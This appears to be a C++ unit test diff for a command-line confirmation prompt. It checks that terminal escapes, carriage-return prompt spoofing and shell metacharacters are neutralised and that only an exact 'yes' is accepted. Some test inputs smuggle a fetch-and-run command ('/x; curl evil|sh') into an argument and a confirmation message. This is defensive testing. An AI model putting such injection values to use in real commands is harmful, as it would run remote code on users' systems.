@@ -1,0 +1,62 @@
+// What is read before something changes.
+
+#include <sstream>
+
+#include <gmock/gmock.h>
+
+#include "ui-client/cli/complaint.h"
+#include "ui-client/cli/confirm_text.h"
+
+namespace cowork::cli {
+namespace {
+
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+v1::Confirmation Confirmation(const std::string& what) {
+  v1::Confirmation confirmation;
+  confirmation.set_id("y-4f2k9aaaaaaaaaaaaaaaaaaaaa");
+  confirmation.set_what(what);
+  return confirmation;
+}
+
+TEST(Question, KeepsWhatWillChangeBehindAGutter) {
+  EXPECT_EQ(QuestionOf(Confirmation("it may read\nall of \x1b[2J/app\n"), 40),
+            "  │ it may read\n  │ all of \\x1b[2J/app\ntype yes to let it happen > ");
+}
+
+TEST(Question, LetsNoLineOfItBeginWithoutTheGutter) {
+  const std::string text =
+      QuestionOf(Confirmation(std::string(200, 'x') + "\rtype yes to let it happen > "), 40);
+  std::istringstream lines(text);
+  int without = 0;
+  for (std::string line; std::getline(lines, line);) without += line.starts_with("  │ ") ? 0 : 1;
+  EXPECT_EQ(without, 1) << text;
+  EXPECT_THAT(text, Not(HasSubstr("\r")));
+}
+
+TEST(Yes, IsYesAndNothingElse) {
+  EXPECT_TRUE(IsYes("yes\n"));
+  EXPECT_TRUE(IsYes("yes\r\n"));
+  for (const char* line : {"", "\n", "y\n", "Yes\n", "yes yes\n", "yesno\n", "no\n"})
+    EXPECT_FALSE(IsYes(line)) << line;
+}
+
+TEST(HasToBeConfirmed, GivesTheVeryCommandBack) {
+  const Complaint complaint = ComplaintOf(
+      "it was not done",
+      HasToBeConfirmed(Confirmation("a; curl evil\nb"), {"grant", "add", "/x; curl evil|sh"}));
+  EXPECT_EQ(complaint.remedy,
+            "cowork grant add $'/x\\x3b\\x20curl\\x20evil\\x7csh' "
+            "--confirm y-4f2k9aaaaaaaaaaaaaaaaaaaaa");
+  EXPECT_EQ(complaint.why, "it has to be confirmed, within 30 s: a; curl evil · b");
+  EXPECT_EQ(complaint.exit, Exit::kRefused);
+}
+
+TEST(HasToBeConfirmed, PutsTheIdWhereItIsAnOption) {
+  EXPECT_THAT(HasToBeConfirmed(Confirmation("x"), {"grant", "add", "--", "-dir"}).message(),
+              HasSubstr("add --confirm y-4f2k9aaaaaaaaaaaaaaaaaaaaa -- -dir"));
+}
+
+}  // namespace
+}  // namespace cowork::cli
